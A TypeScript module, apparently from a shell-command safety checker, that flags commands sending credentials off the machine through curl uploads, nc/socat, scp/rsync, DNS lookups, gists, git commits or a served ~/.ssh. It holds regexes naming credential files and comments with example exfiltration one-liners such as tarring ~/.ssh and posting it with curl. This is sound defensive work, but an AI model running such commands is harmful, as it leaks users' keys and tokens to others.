// Exfiltration: credentials and keys (~/.ssh, ~/.aws, gcloud, kubeconfig, .env, *.pem, tokens in the environment)
// sent to the network, as a request body or upload (curl -d @, -F, -T, wget --post-file, httpie), on a network
// tool's standard input (nc, socat, openssl), or copied to a remote (scp, rsync, sftp, cloud copy). Pure.
import { parseFlags, type Argv } from '../engine/argv.js';
import type { Word } from '../engine/words.js';
import {
  dumpsData,
  foreignToken,
  isDropHost,
  isLocalUrl,
  isPrivateTree,
  PRINTS_SECRET,
  printsSecret,
  SECRET_VAR,
} from './secret-sources.js';
import { show, stdinText, when, type Check, type CheckContext, type Io } from './types.js';
import { names } from '../engine/names.js';
import type { RequestCheck } from '../programs/http/request.js';
import type { GitCheck } from '../programs/git/call.js';
import { judges } from './registry.js';
import type { ForgeCheck } from '../programs/forge/call.js';

/** Files that hold credentials or keys (public keys, known_hosts, ssh config and *.example files do not). */
const CREDENTIAL_FILE = new RegExp(
  [
    String.raw`(^|[/~])\.ssh(/+(?!known_hosts|config$|[^/]*\.pub$|authorized_keys)[^/]*)?/*$`,
    String.raw`(^|[/~])\.(aws|gnupg|azure|docker|kube)(/|$)`,
    String.raw`\.config/(gcloud|gh)(/|$)`,
    String.raw`(^|/)\.(netrc|npmrc|pypirc|git-credentials|vault-token|terraformrc|boto|pgpass|my\.cnf)$`,
    String.raw`(^|/)\.env(\.(?!example|sample|template|dist|defaults)[\w-]+)?$`,
    String.raw`\.(pem|key|p12|pfx|jks|keystore|kdbx|ppk|asc\.key)$`,
    String.raw`(^|/)id_(rsa|dsa|ecdsa|ed25519)$`,
    String.raw`(^|/)(credentials|credentials\.json|credentials\.db|application_default_credentials\.json|service-account[\w-]*\.json|kubeconfig)$`,
    String.raw`^/etc/(g?shadow|sudoers)$`,
    String.raw`(^|/)(secrets|credentials)\.(ya?ml|json|toml)$`,
    // Browser cookie and password stores, keychains: sessions and saved passwords.
    String.raw`(^|/)(Cookies|Login Data|Web Data|logins\.json|key[34]\.db|cookies\.sqlite|signons\.sqlite)$|\.keychain(-db)?$`,
    String.raw`^/proc/(self|\d+|\*)/environ$`,
    // Tools' own credential files.
    String.raw`(^|/)\.(terraform\.d/credentials\.tfrc\.json|cargo/credentials(\.toml)?|gem/credentials|m2/settings(-security)?\.xml|databrickscfg|oci/config|fly/config\.yml|s3cfg|boto3?|gsutil)$`,
    String.raw`(^|/)\.config/(rclone/rclone\.conf|hub|doctl/config\.yaml|hcloud/cli\.toml|git/credentials|github-copilot/(hosts|apps)\.json|heroku|op/config|gitlab-cli/config\.yml|glab-cli/config\.yml)$`,
    String.raw`(^|/)\.(codex/auth\.json|claude/\.credentials\.json|aws/sso/cache)(/|$)`,
    String.raw`^\$\{?KUBECONFIG\}?$`,
  ].join('|'),
);

/** Text of a command line that reads credentials: a credential path, the whole environment, exported secret keys. */
export const READS_SECRETS =
  /(^|[\s/])(config\/)?(secrets|credentials)\.(ya?ml|json|toml)\b|(~|\$HOME|\$\{HOME\}|\/home\/[^/\s]+|\/root|\/Users\/[^/\s]+)\/\.(ssh|aws|gnupg|kube|docker|netrc|npmrc|pypirc|git-credentials|azure|config\/gcloud|config\/gh)|\.env\b(?!\.example)|\bid_(rsa|dsa|ecdsa|ed25519)\b|\.(pem|key|p12|pfx)\b|\/etc\/g?shadow|\/proc\/self\/environ|(^|[\s(|;&])(env|printenv|set)(\s*$|\s*[|)])|export-secret|export-credentials|print-access-token|print-identity-token|\$\{?KUBECONFIG/;

/** Command text (a substitution's) that reads credentials or prints a secret. */
export const readsSecrets = (text: string): boolean => READS_SECRETS.test(text) || PRINTS_SECRET.test(text);

export const isCredentialPath = (text: string): boolean => {
  const t = text.replace(/\\/g, '/'); // Windows paths (%USERPROFILE%\.aws\credentials) have the same names
  return CREDENTIAL_FILE.test(t.replace(/\/+$/, '') || t);
};

/** Files this command line made from credentials (`tar czf /tmp/k.tgz ~/.ssh && curl -F f=@/tmp/k.tgz ...`). */
// Keyed by the analysis's `where`, which is the same object when a check is handed a proxy of the context.
const derived = new WeakMap<object, Set<string>>();
const bare = (text: string): string => text.replace(/^\.\//, '');

const secretFile = (text: string, ctx: CheckContext): boolean =>
  isCredentialPath(text) || (derived.get(ctx.where)?.has(bare(text)) ?? false);

function derive(output: string | undefined, inputs: Word[], ctx: CheckContext): void {
  if (output === undefined || output === '-' || !inputs.some((w) => holdsSecrets(w, ctx))) return;
  addDerived(output, ctx);
  // Copied where a web server or a static site serves it: anyone who asks gets it.
  if (/(^|\/)(public|static|www|htdocs|wwwroot|public_html)(\/|$)/.test(output))
    ctx.add('exfiltration', `${output} (credentials copied where they are served)`);
}

function addDerived(output: string, ctx: CheckContext): void {
  const set = derived.get(ctx.where) ?? new Set<string>();
  set.add(bare(output));
  derived.set(ctx.where, set);
}

/** tar -czf OUT IN..., zip OUT IN..., 7z a OUT IN..., cp IN... OUT, gpg -o OUT IN: an archive or copy of credentials. */
const archive: Check = (cmd, _io, ctx) => {
  const f = parseFlags(cmd.args, names(`-f --file -C --directory -o --output -t --target-directory -x -i`));
  const ops = f.operands;
  if (cmd.name === 'tar') {
    const first = cmd.args[0]?.text ?? '';
    // Old-style `tar czf OUT IN...`: the f in the first word takes the first operand.
    const old = /^[a-z]*f[a-z]*$/.test(first) && !first.startsWith('-');
    const out = f.values.get('-f') ?? f.values.get('--file') ?? (old ? ops[1]?.text : undefined);
    derive(out, old ? ops.slice(2) : ops, ctx);
  } else if (cmd.name === 'zip') derive(ops[0]?.text, ops.slice(1), ctx);
  else if (cmd.name === '7z' || cmd.name === '7za') derive(ops[1]?.text, ops.slice(2), ctx);
  else if (cmd.name === 'gpg' || cmd.name === 'openssl')
    derive(f.values.get('-o') ?? f.values.get('--output') ?? f.values.get('-out'), cmd.args, ctx);
  else
    derive(
      f.values.get('-t') ?? f.values.get('--target-directory') ?? ops.at(-1)?.text,
      f.values.has('-t') ? ops : ops.slice(0, -1),
      ctx,
    );
};

/** python -m http.server --directory ~/.ssh serves the keys to whoever connects. */
const pythonServe = when('exfiltration', (args) => {
  const m = args.indexOf('-m');
  if (m < 0 || !/^(http\.server|SimpleHTTPServer|uploadserver)$/.test(args[m + 1] ?? '')) return false;
  const d = args.findIndex((a) => a === '--directory' || a === '-d');
  const dir = d >= 0 ? args[d + 1] : args.find((a) => a.startsWith('--directory='))?.slice('--directory='.length);
  return dir !== undefined && (isCredentialPath(dir) || /^(~|\/root|\/home\/[^/]+)\/?$/.test(dir));
});

/** A word that carries secrets: a credential path, a substitution that reads them, a secret variable. */
function carriesSecret(w: Word, variables: boolean, ctx?: CheckContext): boolean {
  if (ctx ? secretFile(w.text, ctx) : isCredentialPath(w.text)) return true;
  if (w.substitutions.some((n) => readsSecrets(n.text))) return true;
  return variables && SECRET_VAR.test(w.text);
}

/** A word that is or reads secrets, or names a private tree (~/.ssh, ~/.gnupg) whose copy carries them. */
const holdsSecrets = (w: Word, ctx: CheckContext): boolean => carriesSecret(w, false, ctx) || isPrivateTree(w.text);

/** Programs that print the environment: with no names, or with names of secrets, they print secrets. */
const ENV_PRINTERS = new Set(names('env printenv set export'));

/** Options and verbs that print secret keys or tokens (gpg --export-secret-keys, gcloud auth print-access-token). */
const EXPORTS_SECRET = /^--export-secret|^export-credentials$|^print-(access|identity)-token$/;

/** Does an upstream command print credentials (cat ~/.ssh/id_rsa, env, gpg --export-secret-keys, echo $TOKEN)? */
function upstreamSecret(io: Io): boolean {
  if (io.stdinFile && isCredentialPath(io.stdinFile.text)) return true;
  return io.upstream.some((u) => {
    const a = u.argv;
    if (!a?.name) return false;
    const printsEnv = a.args.every((w) => SECRET_VAR.test(`$${w.text}`) || w.text.startsWith('-'));
    if ((ENV_PRINTERS.has(a.name) && printsEnv) || a.args.some((w) => EXPORTS_SECRET.test(w.text))) return true;
    if (printsSecret(a) || dumpsData(a)) return true;
    if (ARCHIVERS.has(a.name) && a.args.some((w) => isPrivateTree(w.text))) return true;
    return a.args.some((w) => carriesSecret(w, a.name === 'echo' || a.name === 'printf'));
  });
}

/** Archivers: an archive of a private tree on standard output carries all of it. */
const ARCHIVERS = new Set(['tar', 'bsdtar', 'zip', '7z', '7za', 'cpio', 'pax', 'gzip', 'zstd', 'xz']);

export const secretStdin = (io: Io): boolean => upstreamSecret(io) || READS_SECRETS.test(stdinText(io) ?? '');

/** `cat KEY | xargs -I{} curl "https://host/?k={}"`: xargs puts the secret into the request's own arguments. */
const fedSecret = (cmd: Argv, io: Io): boolean => cmd.viaXargs && secretStdin(io);

const report = (cmd: Argv, ctx: CheckContext): void => ctx.add('exfiltration', show(cmd));

/** The file an upload option names: `@file`, `name=@file`, `name=<file`, or the value itself for -T. */
function uploadedFile(option: string, value: string): string | undefined {
  if (names('-T --upload-file --post-file --body-file').includes(option)) return value;
  const at = /(?:^|=)[@<]([^;]*)/.exec(value);
  return at ? at[1] : undefined;
}

/**
 * A request's body, form or upload that is (or reads) a credential, a URL computed from one, a header or other
 * option value read from one; httpie's and xh's items.
 */
export const requestExfil: RequestCheck = (req, cmd, io, ctx) => {
  if (req.client === 'httpie') return httpie(cmd, io, ctx);
  if (fedSecret(cmd, io)) report(cmd, ctx);
  const urls = req.urls;
  // A token variable sent to this machine's own service (a dev server's login) stays here; a key file still asks.
  const local = urls.length > 0 && urls.every((u) => isLocalUrl(u));
  // `curl -T .env file:///tmp/x` copies a file on this machine: nothing leaves.
  if (urls.length > 0 && urls.every((u) => /^file:\/\//i.test(u))) return;
  for (const { kind, option, word } of req.words) {
    if (kind === 'operand') {
      if (carriesSecret(word, false)) report(cmd, ctx);
    } else if (kind === 'value') {
      // The value of a header or another option: only a substitution reading credentials counts.
      if (word.substitutions.some((n) => readsSecrets(n.text))) report(cmd, ctx);
    } else {
      const file = uploadedFile(option!, word.text);
      if (file === '-' || file === '/dev/stdin') {
        if (secretStdin(io)) report(cmd, ctx);
      } else if ((file !== undefined && secretFile(file, ctx)) || carriesSecret(word, !local, ctx)) report(cmd, ctx);
      if (file !== undefined && urls.some(isDropHost))
        ctx.add('exfiltration', `${show(cmd)} (an anonymous drop service)`);
    }
  }
  foreignToken(cmd, urls, ctx);
};

/** httpie / xh: `field@file` and `@file` items, standard input as the body. */
function httpie(cmd: Argv, io: Io, ctx: CheckContext): void {
  const sendsSecret = (a: Word): boolean => {
    const m = /(?:^|[^\\])@(.+)$/.exec(a.text);
    const field = /=[^=]/.test(a.text) && !a.text.includes(':');
    return (m !== null && secretFile(m[1]!, ctx)) || carriesSecret(a, field, ctx);
  };
  if (cmd.args.some(sendsSecret) || secretStdin(io)) report(cmd, ctx);
}

/** nc, socat, telnet, openssl s_client, ssh: whatever arrives on standard input goes over the connection. */
const stream: Check = (cmd, io, ctx) => {
  if (cmd.name === 'openssl' && !cmd.args.some((a) => a.text === 's_client')) return;
  if (secretStdin(io)) report(cmd, ctx);
  // socat FILE:~/.ssh/id_rsa TCP:host:port
  const readsCredential = (a: Word): boolean =>
    /^(FILE|OPEN|GOPEN|CREATE):/i.test(a.text) && isCredentialPath(a.text.replace(/^\w+:/, '').split(',')[0]!);
  if (cmd.name === 'socat' && cmd.args.some(readsCredential)) report(cmd, ctx);
};

const REMOTE = /^([\w.-]+@)?[\w.-]+:(?!\/\/)|^(s3|gs|az|r2|b2|sftp|ftp|https?):\/\/|^[\w-]+:/;

/** scp, rsync, rclone, cloud copies: a credential source copied to a remote destination. */
const copyOut: Check = (cmd, io, ctx) => {
  const VALUE_OPTS = `-e --rsh -P -i -o -F -J -c -l -S --exclude --include --filter --config --profile --region -p`;
  const f = parseFlags(cmd.args, names(VALUE_OPTS));
  let ops = f.operands;
  if (['aws', 'gsutil', 'gcloud', 'azcopy', 'rclone', 'mc', 's3cmd'].includes(cmd.name!)) {
    const verb = ops.findIndex((o) => /^(cp|copy|sync|mv|move|put|copyto)$/.test(o.text));
    if (verb < 0) return;
    ops = ops.slice(verb + 1);
  }
  // The destination is the last remote operand (options the list above does not know may leave values after it).
  const at = ops.findLastIndex((o) => REMOTE.test(o.text));
  const sources = ops.slice(0, Math.max(at, 0));
  const stdin = (o: Word): boolean => o.text === '-' || o.text === '/dev/stdin';
  if (at >= 1 && sources.some((o) => holdsSecrets(o, ctx) || (stdin(o) && secretStdin(io)))) report(cmd, ctx);
  // sftp/ftp scripts on standard input: `put ~/.ssh/id_rsa`.
  const script = stdinText(io) ?? '';
  const ftp = cmd.name === 'sftp' || cmd.name === 'ftp' || cmd.name === 'lftp';
  if (ftp && /\bput\s+\S*/.test(script) && READS_SECRETS.test(script)) report(cmd, ctx);
};

/** A DNS lookup or ping whose name is computed from credentials leaks them to the resolver. */
const lookup: Check = (cmd, io, ctx) => {
  const computed = (a: Word): boolean => a.substitutions.some((n) => readsSecrets(n.text)) || SECRET_VAR.test(a.text);
  if (fedSecret(cmd, io) || cmd.args.some(computed)) report(cmd, ctx);
};

/** gh gist create FILE publishes the file. */
export const forgeExfil: ForgeCheck = ({ path }, cmd, _io, ctx) => {
  // gh secret set X --body "$(cat ~/.npmrc)", gh api -f k="$(...)": the credential is handed to GitHub.
  if (cmd.args.some((a) => a.substitutions.some((n) => readsSecrets(n.text)))) report(cmd, ctx);
  if (path[0] === 'gist' && /^(create|new|edit)$/.test(path[1] ?? '') && path.slice(2).some((a) => secretFile(a, ctx)))
    report(cmd, ctx);
};

/**
 * git bundle create OUT --all is the whole repository in one file (judged like an archive of secrets when it is sent);
 * git add of a credential file (or of everything, after this line copied credentials into the project) puts the
 * secret into history, where every clone and push carries it.
 */
export const gitExfil: GitCheck = ({ sub, rest }, _cmd, _io, ctx) => {
  const w = rest.map((a) => a.text);
  if (sub === 'bundle' && w[0] === 'create' && w.includes('--all')) {
    const out = w.slice(1).find((x) => !x.startsWith('-'));
    if (out !== undefined) addDerived(out, ctx);
  }
  if (sub !== 'add' && sub !== 'commit') return;
  const files = sub === 'add' ? rest.filter((a) => !a.text.startsWith('-')) : [];
  const everything = w.some((x) => /^(-A|--all|-a|\.)$/.test(x));
  const project = ctx.where.project;
  const copied = [...(derived.get(ctx.where) ?? [])].some(
    (d) => !/^[/~$]/.test(d) || (project !== undefined && d.startsWith(`${project}/`)),
  );
  if (files.some((f) => secretFile(f.text, ctx)) || (everything && copied)) report(_cmd, ctx);
};

judges(import.meta.url, {
  'nc ncat netcat socat telnet openssl ssh cryptcat': stream,
  'scp rsync sftp ftp lftp rclone aws gsutil gcloud azcopy mc s3cmd': copyOut,
  'dig nslookup host ping drill': lookup,
  'tar zip 7z 7za cp gpg': archive,
  'python python3': pythonServe,
});
